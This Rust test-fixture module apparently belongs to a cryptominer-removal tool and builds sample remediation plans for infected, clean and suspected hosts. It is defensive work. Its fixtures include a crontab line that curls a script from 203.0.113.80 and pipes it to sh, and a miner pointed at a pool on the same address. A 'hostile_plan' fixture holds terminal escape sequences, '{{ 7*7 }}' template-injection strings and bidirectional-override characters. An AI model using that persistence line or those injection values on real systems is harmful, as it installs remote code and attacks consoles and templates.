//! The incident that the words are tried on: plans made by hand, and runs told event by event.

mod night;

use std::collections::BTreeMap;
use std::io;
use std::sync::{Arc, Mutex};

use deminer_engine::finding::{Artifact, Bearing, Finding, FindingId, HostVerdict, Verdict};
use deminer_engine::plan::{
    End, Footprint, HostPlan, Left, LeftAlone, Machine, Origin, Plan, PlaybookRef, ResourceRef, SettleReason,
    ShownProcess, UndoKind, VALID_FOR_MS, WhyLeft,
};
use deminer_worker::action::{Act, Action, FileTarget, LineTarget, Object, ProcessTarget, Role};
use deminer_worker::many::many_targets;
use deminer_worker::order::{Birth, Bounds, ComponentOrders, Envelope, HostOrders, Settle};
use deminer_worker::query::{FileId, Gap, GapReason, HostIdentity};
use deminer_worker::text::{Digest, HostBytes, HostPath, Wide};

pub(crate) use self::night::Night;
use super::plan::About;

/// 2026-11-14 02:41:09 UTC.
pub(crate) const AT: u64 = 1_794_624_069_000;

const MINUTE: u64 = 60_000;

/// What a screen wrote.
#[derive(Clone, Default)]
pub(crate) struct Paper(Arc<Mutex<Vec<u8>>>);

impl Paper {
    pub(crate) fn text(&self) -> String {
        String::from_utf8(self.0.lock().expect("no test panics while it writes").clone()).expect("only text is written")
    }
}

impl io::Write for Paper {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0
            .lock()
            .expect("no test panics while it writes")
            .extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

pub(crate) fn about() -> About<'static> {
    About {
        file: Some("miner.plan"),
        took_ms: Some(11_432),
        now_ms: AT,
    }
}

pub(super) fn identity(host: &str) -> HostIdentity {
    HostIdentity {
        machine_id: Some("8f0c".to_owned()),
        boot_id: "0a1b2c3d-0000-4000-8000-000000000001".to_owned(),
        hostname: host.into(),
        pid_namespace: Wide(4_026_531_836),
    }
}

pub(super) fn process(pid: u32, role: Role, comm: &str, exe: &str) -> ProcessTarget {
    ProcessTarget {
        boot_id: identity("").boot_id,
        pid,
        start_ticks: Wide(81_200 + u64::from(pid)),
        exe: FileId {
            dev: Wide(23),
            inode: Wide(77),
        },
        exe_path: exe.into(),
        exe_sha256: Digest::of(exe.as_bytes()),
        exe_size: Wide(2_936_012),
        argv_sha256: Digest::of(comm.as_bytes()),
        uid: 1000,
        comm: comm.into(),
        role,
    }
}

pub(super) fn file(path: impl Into<HostPath>, inode: u64, flags: u32) -> FileTarget {
    let path = path.into();
    FileTarget {
        mount: "/".into(),
        id: FileId {
            dev: Wide(2049),
            inode: Wide(inode),
        },
        size: Wide(412),
        ctime_ns: Wide((AT - 171_000_000) * 1_000_000),
        mtime_ns: Wide((AT - 171_000_000) * 1_000_000),
        sha256: Digest::of(path.as_bytes()),
        path,
        mode: 0o600,
        uid: 1000,
        gid: 1000,
        flags: Some(flags),
        links: 1,
        xattrs: Vec::new(),
    }
}

pub(super) fn line(number: u32, text: impl Into<HostBytes>, mark: &str) -> LineTarget {
    LineTarget {
        number,
        line: text.into(),
        mark: mark.into(),
    }
}

/// A host's part of a plan as it grows.
pub(super) struct Host {
    name: String,
    verdict: Option<HostVerdict>,
    end: End,
    because: Vec<FindingId>,
    findings: Vec<Finding>,
    acts: Vec<(u32, Act, FindingId)>,
    left: Vec<LeftAlone>,
    gaps: Vec<Gap>,
    shown: Vec<ShownProcess>,
    births: Vec<Birth>,
}

impl Host {
    pub(super) fn new(name: &str, verdict: HostVerdict) -> Host {
        Host {
            name: name.to_owned(),
            verdict: Some(verdict),
            end: End::Through {},
            because: Vec::new(),
            findings: Vec::new(),
            acts: Vec::new(),
            left: Vec::new(),
            gaps: Vec::new(),
            shown: Vec::new(),
            births: Vec::new(),
        }
    }

    fn end(mut self, end: End) -> Host {
        self.end = end;
        self
    }

    fn state(mut self, finding: Finding) -> Host {
        self.findings.push(finding);
        self
    }

    /// The verdict rests on this.
    fn rests(mut self, finding: Finding) -> Host {
        self.because.push(finding.id.clone());
        self.state(finding)
    }

    /// Proposes an act because of a finding that condemns its object.
    pub(super) fn act(mut self, component: u32, act: Act, finding: Finding) -> Host {
        self.acts.push((component, act, finding.id.clone()));
        self.state(finding)
    }

    fn gap(mut self, subject: &str, object: &str, why: GapReason) -> Host {
        self.gaps.push(Gap {
            subject: subject.to_owned(),
            object: object.into(),
            why,
        });
        self
    }

    fn leave(mut self, what: Left, why: WhyLeft) -> Host {
        self.left.push(LeftAlone {
            what,
            why,
            because: Vec::new(),
        });
        self
    }

    fn shows(mut self, process: &ProcessTarget, argv: Vec<HostBytes>) -> Host {
        self.shown.push(ShownProcess {
            pid: process.pid,
            start_ticks: process.start_ticks,
            ppid: 1,
            argv_cut: argv.iter().map(HostBytes::len).sum::<usize>() > 1000,
            argv,
            exe_deleted: process.exe_path.as_bytes().starts_with(b"/dev/shm"),
        });
        self
    }

    fn birth(mut self, birth: Birth) -> Host {
        self.births.push(birth);
        self
    }

    /// The actions, with the copies, freezes and cleared flags that they need.
    pub(super) fn actions(&self) -> Vec<Action> {
        let mut actions: BTreeMap<_, Action> = BTreeMap::new();
        for (component, act, because) in &self.acts {
            let mut needs = Vec::new();
            for first in preparations(act) {
                let id = first.id(&self.name);
                needs.push(id);
                let prepared = actions.entry(id).or_insert_with(|| Action {
                    id,
                    component: *component,
                    needs: preparations(&first).iter().map(|act| act.id(&self.name)).collect(),
                    act: first,
                    because: Vec::new(),
                });
                prepared.because.push(because.to_string());
                prepared.because.dedup();
            }
            needs.sort();
            let id = act.id(&self.name);
            let action = Action {
                id,
                component: *component,
                act: act.clone(),
                because: vec![because.to_string()],
                needs,
            };
            actions.insert(id, action);
        }
        actions.into_values().collect()
    }

    pub(super) fn plan(self) -> HostPlan {
        let actions = self.actions();
        let needs_own_approval = many_targets(&actions);
        let components: std::collections::BTreeSet<u32> = actions.iter().map(|action| action.component).collect();
        let timed = actions.iter().find(|action| action.act.kind() == "edit_lines");
        let settle_because = match timed.and_then(|action| action.act.file()) {
            Some(file) => SettleReason::TimedTrigger {
                path: file.path.clone(),
                scheduler: 655,
                comm: "cron".into(),
            },
            None => SettleReason::NoTimedTrigger {},
        };
        let journal = HostPath::from("/var/tmp/.deminer-000102030405060708090a0b0c0d0e0f");
        HostPlan {
            results: BTreeMap::new(),
            end: self.end,
            verdict: self.verdict.map(|host| Verdict {
                host,
                because: self.because,
            }),
            machine: Machine {
                system: "linux".to_owned(),
                distribution: "Debian GNU/Linux 12 (bookworm)".to_owned(),
                kernel: "6.1.0-28-amd64".to_owned(),
                architecture: "x86_64".to_owned(),
                cpus: 4,
            },
            review: self
                .findings
                .iter()
                .filter(|finding| finding.bearing == Bearing::Review)
                .map(|finding| finding.id.clone())
                .collect(),
            findings: self.findings,
            more_findings: 0,
            left_alone: self.left,
            gaps: self.gaps,
            more_gaps: 0,
            processes: self.shown,
            undo: actions
                .iter()
                .map(|action| (action.id, UndoKind::of(&action.act)))
                .collect(),
            settle_because,
            many_targets: !needs_own_approval.is_empty(),
            needs_own_approval,
            footprint: Footprint {
                processes: if actions.is_empty() { 0 } else { 2 },
                directories: if actions.is_empty() {
                    Vec::new()
                } else {
                    vec![journal.clone()]
                },
                bytes: Wide(if actions.is_empty() { 0 } else { 65 << 20 }),
            },
            orders: HostOrders {
                identity: identity(&self.name),
                host: self.name,
                components: components
                    .into_iter()
                    .map(|id| ComponentOrders {
                        id,
                        envelope: Envelope {
                            births: self.births.clone(),
                            max_births: 8,
                        },
                    })
                    .collect(),
                actions,
                protect: Vec::new(),
                journal,
                settle: if timed_settle(&self.acts) {
                    Settle::NextMinute
                } else {
                    Settle::AtOnce
                },
                bounds: Bounds::default(),
            },
        }
    }
}

fn timed_settle(acts: &[(u32, Act, FindingId)]) -> bool {
    acts.iter().any(|(_, act, _)| act.kind() == "edit_lines")
}

fn preparations(act: &Act) -> Vec<Act> {
    match act {
        Act::Keep { .. } | Act::Freeze { .. } => Vec::new(),
        Act::Kill { process } => vec![
            Act::Freeze {
                process: process.clone(),
            },
            Act::Keep {
                object: Object::Process {
                    process: process.clone(),
                },
            },
        ],
        Act::ClearFlags { file, .. } | Act::RemoveFile { file } | Act::EditLines { file, .. } => {
            let keep = Act::Keep {
                object: Object::File { file: file.clone() },
            };
            let held = file.flags.unwrap_or(0) & 0x30;
            let clears = matches!(act, Act::ClearFlags { .. }) || held == 0;
            let clear = (!clears).then(|| Act::ClearFlags {
                file: file.clone(),
                flags: held,
            });
            std::iter::once(keep).chain(clear).collect()
        }
    }
}

/// A statement about a process that only adds weight.
fn weighs(process: &ProcessTarget, signal: &str, points: i32, say: &str) -> Finding {
    let bearing = if points < 0 { Bearing::Benign } else { Bearing::Weighs };
    let artifact = Artifact::Process {
        process: process.clone(),
    };
    Finding::new(artifact, signal, bearing, say)
        .weighs(points)
        .by_rule("rules/linux.yml:58")
        .rests_on(format!("/proc/{}/exe", process.pid), Some(process.exe_sha256))
}

fn condemned(process: &ProcessTarget, points: i32) -> Finding {
    let artifact = Artifact::Process {
        process: process.clone(),
    };
    Finding::new(
        artifact,
        "condemned_miner",
        Bearing::Condemns,
        "judged a miner with {points} points of {needed}",
    )
    .field("points", points)
    .field("needed", 20)
    .rests_on(format!("/proc/{}/exe", process.pid), Some(process.exe_sha256))
}

fn of_file(file: &FileTarget, signal: &str, say: &str) -> Finding {
    Finding::new(Artifact::File { file: file.clone() }, signal, Bearing::Condemns, say)
        .rests_on(&file.path, Some(file.sha256))
}

fn of_line(file: &FileTarget, line: &LineTarget) -> Finding {
    let artifact = Artifact::Line {
        file: file.clone(),
        line: line.clone(),
    };
    Finding::new(
        artifact,
        "starts_condemned",
        Bearing::Condemns,
        "the line starts {served}, which is condemned, and pipes a download into a shell",
    )
    .field("served", &line.mark)
    .by_rule("rules/linux.yml:61")
    .rests_on(&file.path, Some(file.sha256))
}

/// A miner in shared memory, guarded by a pair.
fn guarded(name: &str) -> Host {
    let miner = process(4242, Role::Miner, "kworker/u8:3", "/dev/shm/.k/kw");
    let guardians = [4237, 4239].map(|pid| process(pid, Role::Guardian, "watch", "/var/tmp/. /watch"));
    let watch = file("/var/tmp/. /watch", 12, 0);
    let config = file("/var/tmp/. /config.json", 13, 0);
    let options = weighs(
        &miner,
        "xmrig_options",
        25,
        "{count} XMRig options in its arguments: {value}",
    )
    .field("count", 6)
    .field("value", "--donate-level -k -o -p -u");
    let mut host = Host::new(name, HostVerdict::Infected)
        .rests(options)
        .rests(
            weighs(
                &miner,
                "kernel_name",
                25,
                "named like a kernel thread, `{value}`, but it runs a file: {exe}",
            )
            .field("value", "kworker/u8:3")
            .field("exe", "/dev/shm/.k/kw"),
        )
        .rests(
            weighs(
                &miner,
                "deleted_executable",
                10,
                "the file that it runs was deleted: {value}",
            )
            .field("value", "/dev/shm/.k/kw"),
        )
        .rests(weighs(&miner, "unowned", 4, "no package knows {value}").field("value", "/dev/shm/.k/kw"))
        .rests(weighs(&miner, "busy", 4, "CPU {value} % of one CPU").field("value", 387))
        .act(1, Act::Kill { process: miner.clone() }, condemned(&miner, 88))
        .shows(
            &miner,
            vec!["kworker/u8:3".into(), "-o".into(), "203.0.113.80:3333".into()],
        )
        .birth(Birth::Executable {
            sha256: Digest::of(b"/var/tmp/. /watch"),
            size: Wide(9_120),
        })
        .gap("directory", "/srv/share", GapReason::Unsupported)
        .gap("process", "9120", GapReason::Gone)
        .leave(
            Left::Directory {
                path: "/var/tmp/. ".into(),
            },
            WhyLeft::DirectoryFlags { flags: 0x10 },
        );
    for guardian in guardians {
        let finding = Finding::new(
            Artifact::Process {
                process: guardian.clone(),
            },
            "guards",
            Bearing::Condemns,
            "parent or companion of a condemned process; no package knows {path}, in a remarkable place or beside it",
        )
        .field("path", &guardian.exe_path);
        host = host.act(1, Act::Kill { process: guardian }, finding);
    }
    host.act(
        1,
        Act::RemoveFile { file: watch.clone() },
        of_file(&watch, "runs", "the file that condemned pid 4237 runs"),
    )
    .act(
        1,
        Act::RemoveFile { file: config.clone() },
        of_file(
            &config,
            "configures",
            "its text is a miner's configuration: pools with a user",
        ),
    )
}

/// A miner that a crontab starts, its file immutable.
fn scheduled(name: &str) -> Host {
    let miner = process(1893, Role::Miner, "sysd", "/usr/local/lib/.sysd/sysd");
    let program = file("/usr/local/lib/.sysd/sysd", 88, 0x10);
    let crontab = file("/var/spool/cron/crontabs/deploy", 131_077, 0);
    let line = line(
        3,
        "*/5 * * * * /usr/local/lib/.sysd/sysd -q||curl -fsS 203.0.113.80/i|sh",
        "/usr/local/lib/.sysd/sysd",
    );
    let because = of_line(&crontab, &line);
    let other = Act::Kill {
        process: process(655, Role::Companion, "cron", "/usr/sbin/cron"),
    };
    let left = Left::Act {
        action: other.id(name),
        component: 1,
        act: other,
    };
    let rule = "package cron brought this content".to_owned();
    Host::new(name, HostVerdict::Infected)
        .rests(
            weighs(
                &miner,
                "monero_wallet",
                25,
                "a valid Monero address in its arguments: `{value}`",
            )
            .field("value", "888tNkZr"),
        )
        .rests(weighs(&miner, "busy", 4, "CPU {value} % of one CPU").field("value", 196))
        .act(1, Act::Kill { process: miner.clone() }, condemned(&miner, 70))
        .act(
            1,
            Act::EditLines {
                file: crontab,
                remove: vec![line],
            },
            because,
        )
        .act(
            1,
            Act::RemoveFile { file: program.clone() },
            of_file(&program, "runs", "the file that condemned pid 1893 runs"),
        )
        .leave(left, WhyLeft::Protected { rule })
        .state(
            Finding::new(
                Artifact::File {
                    file: file("/opt/odd", 9, 0),
                },
                "other_home",
                Bearing::Review,
                "its content is that of a condemned executable, but it lies where others keep theirs",
            )
            .rests_on("/opt/odd", None),
        )
}

fn busy_and_clean(name: &str) -> Host {
    let database = process(812, Role::Miner, "postgres", "/usr/lib/postgresql/16/bin/postgres");
    Host::new(name, HostVerdict::Clean)
        .end(End::Stopped {
            reason: "no miner here; other findings have their own procedure".to_owned(),
        })
        .state(
            weighs(
                &database,
                "package_file",
                -25,
                "file of package {package}, digest matches",
            )
            .field("package", "postgresql-16"),
        )
        .state(
            weighs(
                &database,
                "compute_profile",
                -15,
                "`{value}` is a program that works hard by trade",
            )
            .field("value", "postgres"),
        )
        .state(weighs(&database, "busy", 4, "CPU {value} % of one CPU").field("value", 312))
}

fn suspected(name: &str) -> Host {
    let suspect = process(7, Role::Companion, "job", "/home/ci/.cache/job");
    let judged = Finding::new(
        Artifact::Process {
            process: suspect.clone(),
        },
        "suspect_process",
        Bearing::Review,
        "judged suspect with {points} points, {needed} needed; a person decides",
    );
    Host::new(name, HostVerdict::Suspected)
        .end(End::Stopped {
            reason: "suspected, or not enough was seen; a person looks".to_owned(),
        })
        .rests(weighs(&suspect, "unowned", 4, "no package knows {value}").field("value", "/home/ci/.cache/job"))
        .rests(weighs(&suspect, "busy", 4, "CPU {value} % of one CPU").field("value", 99))
        .state(judged.field("points", 8).field("needed", 20))
}

fn origin() -> Origin {
    Origin {
        playbook: PlaybookRef {
            name: "linux-miner".to_owned(),
            version: 1,
            sha256: Digest::of(b"playbook"),
            text: "playbook".into(),
        },
        resources: BTreeMap::from([(
            "rules/linux.yml".to_owned(),
            ResourceRef {
                sha256: Digest::of(b"rules"),
                text: "rules".into(),
            },
        )]),
        modules: BTreeMap::from([("process.kill".to_owned(), "1".to_owned())]),
        vars: BTreeMap::from([("watch".to_owned(), "10m".into())]),
        secrets: Default::default(),
        created_at_ms: AT,
        valid_for_ms: VALID_FOR_MS,
    }
}

fn plan_of(hosts: Vec<Host>) -> Plan {
    Plan::new(origin(), hosts.into_iter().map(Host::plan).collect()).expect("these hosts make a plan")
}

/// Two infected hosts and a busy, clean one.
pub(crate) fn plan() -> Plan {
    plan_of(vec![guarded("web-1"), scheduled("web-2"), busy_and_clean("db-1")])
}

/// Three equal hosts and one with so many targets that it needs a yes of its own.
pub(crate) fn fleet_plan() -> Plan {
    let mut many = guarded("web-9");
    for number in 0..24 {
        let file = file(format!("/var/tmp/.x/{number:02}").as_str(), 1000 + number, 0);
        let because = of_file(&file, "copy", "its content is that of a condemned executable");
        many = many.act(2, Act::RemoveFile { file }, because);
    }
    plan_of(vec![
        guarded("web-1"),
        guarded("web-2"),
        guarded("web-3"),
        many,
        busy_and_clean("db-1"),
    ])
}

/// Nothing to do, for every reason that there is.
pub(crate) fn idle_plan() -> Plan {
    plan_of(vec![
        busy_and_clean("db-1"),
        suspected("ci-1"),
        Host::new("nfs-1", HostVerdict::CannotSay).gap("directory", "/proc", GapReason::Denied),
        Host {
            verdict: None,
            ..Host::new("old-1", HostVerdict::Clean).end(End::Failed {
                place: "gather.sockets".to_owned(),
                why: "ask the kernel for sockets: not supported here: no NETLINK_SOCK_DIAG".to_owned(),
            })
        },
        Host {
            verdict: None,
            ..Host::new("new-1", HostVerdict::Clean)
        },
    ])
}

/// Nothing to do, and all are clean.
pub(crate) fn clean_plan() -> Plan {
    plan_of(vec![busy_and_clean("db-1"), Host::new("db-2", HostVerdict::Clean)])
}

/// All that an intruder can write into a plan.
pub(crate) fn hostile_plan() -> Plan {
    let comm = "a`b\x1b]0;x\x07{{ 7*7 }}\n";
    let miner = process(66, Role::Miner, comm, "/tmp/\x1b[2J \u{202e}{points}\n");
    let crontab = file(HostPath::new(&b"/var/spool/cron/\xff\n\x1b[31m"[..]), 5, 0);
    let lines = vec![
        line(1, "{{ 7*7 }} {served}\x1b[2J\u{202e}", "/tmp/x"),
        line(2, HostBytes::new(vec![b'A'; 128 << 10]), "/tmp/x"),
        line(3, HostBytes::new(&b"\xff\xfe\r\ttwo\0"[..]), "/tmp/x"),
    ];
    let because = of_line(&crontab, &lines[0]);
    Host::new("web-1", HostVerdict::Infected)
        .act(1, Act::Kill { process: miner.clone() }, condemned(&miner, 50))
        .act(
            1,
            Act::EditLines {
                file: crontab,
                remove: lines,
            },
            because,
        )
        .state(
            weighs(&miner, "xmrig_options", 25, "options: {value}")
                .field("value", HostBytes::new(vec![b'\n'; 128 << 10])),
        )
        .shows(
            &miner,
            vec![HostBytes::new(vec![0xff; 300]), "{{ 7*7 }}".into(), "a\nb".into()],
        )
        .gap("file", "/tmp/\x1b[2J\n", GapReason::Denied)
        .into_plan()
}

impl Host {
    fn into_plan(self) -> Plan {
        plan_of(vec![self])
    }
}
